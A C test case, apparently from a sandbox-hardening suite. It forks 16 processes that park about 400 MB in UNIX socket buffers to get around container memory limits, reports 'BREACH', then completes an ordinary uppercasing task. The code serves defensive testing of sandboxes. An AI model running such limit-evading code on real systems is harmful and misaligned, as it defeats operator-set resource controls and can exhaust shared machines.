/*+++
number = "35"
title = "400 MB in the queues of sockets, by 16 processes"
file = "up.c"
succeeds = "says"
score = 40
findings = ["resource_limit"]
[[defence]]
name = "limit:memory"
sandboxes = ["local"]
[[defence]]
name = "docker:--memory"
off = ["docker:--memory=260m=>--memory=900m", "docker:--memory-swap=260m=>--memory-swap=900m"]
also = ["docker:--memory=1g=>--memory=260m", "docker:--memory-swap=1g=>--memory-swap=260m"]
sandboxes = ["docker"]
+++*/
#include <ctype.h>
#include <stdio.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

/* The honest work, after which this earns what it would have earned without the attack. */
static int raise_all(void)
{
    for (int c; (c = getchar()) != EOF;)
        putchar(toupper(c));
    return 0;
}

/* Fills pairs of sockets until it has put `most` bytes there; then says so and waits for the others. */
static int fill(size_t most, int said, int gate)
{
    static char part[32768];
    size_t held = 0;
    char c = 1;
    for (int pair[2]; held < most && socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) == 0;)
        for (int i = 0; i < 2; i++)
            for (ssize_t n; held < most && (n = write(pair[i], part, sizeof part)) > 0;)
                held += (size_t)n;
    if (held < most || write(said, &c, 1) != 1)
        return 1;
    return read(gate, &c, 1) != 0;
}

int main(void)
{
    enum { CHILDREN = 16 };
    int said[2], gate[2], full = 0;
    char c;
    if (pipe(said) < 0 || pipe(gate) < 0)
        return 1;
    for (int i = 0; i < CHILDREN; i++) {
        if (fork() == 0) {
            close(gate[1]);
            _exit(fill((400u << 20) / CHILDREN, said[1], gate[0]));
        }
    }
    close(said[1]);
    while (read(said[0], &c, 1) == 1)
        if (++full == CHILDREN)
            break;
    if (full == CHILDREN)
        fputs("BREACH: 400 MB\n", stderr);
    close(gate[1]);
    while (wait(NULL) > 0)
        ;
    return raise_all();
}
